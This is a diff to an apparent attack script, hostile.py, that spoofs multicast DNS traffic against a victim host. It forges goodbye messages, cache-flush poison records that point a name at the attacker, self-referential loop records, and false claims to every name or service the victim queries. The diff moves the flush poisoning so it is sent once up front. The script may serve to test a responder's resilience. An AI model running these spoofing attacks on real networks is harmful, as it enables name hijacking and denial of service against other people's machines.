@@ -1,8 +1,8 @@
 # Somebody in the network who wishes the box ill, and knows how multicast DNS works: hostile.py OWN_ADDRESS VICTIM WHAT
-# says WHAT as often as it takes, and tells in JSON, once a second, how many names the victim has asked for so far.
+# says WHAT, as often as it takes, and tells in JSON, once a second, how many names the victim has asked for so far.
 #
 #   goodbye   that the box is gone, in the box's own words
-#   flush     that the name leads here, for as long as can be said, and that all else is to be forgotten
+#   flush     once, that the name leads here, for as long as can be said, and that all else is to be forgotten
 #   loops     messages whose names lead back to themselves
 #   names     that every name for which the box asks is ours
 #   services  the same of its services' names
@@ -87,6 +87,8 @@ def loops():
                 yield struct.pack("!6H", 0, 0x8400 if counts[1] else 0, *counts, 0, 1) + body + owner + b"\x07wizyjno"
 
 
+if what == "flush":
+    say(message(record(BOX, A, FOR_EVER, OURS)))
 seen = []
 told = time.monotonic()
 while True:
@@ -109,8 +111,6 @@ while True:
                 say(message(name(*labels) + struct.pack("!HH", ANY, IN), rival, flags=0, questions=1, authorities=1))
     elif what == "goodbye":
         say(message(record(BOX, A, 0, socket.inet_aton(victim))))
-    elif what == "flush" and len(seen) == 0:
-        say(message(record(BOX, A, FOR_EVER, OURS)))
     elif what == "loops":
         for packet in loops():
             say(packet)
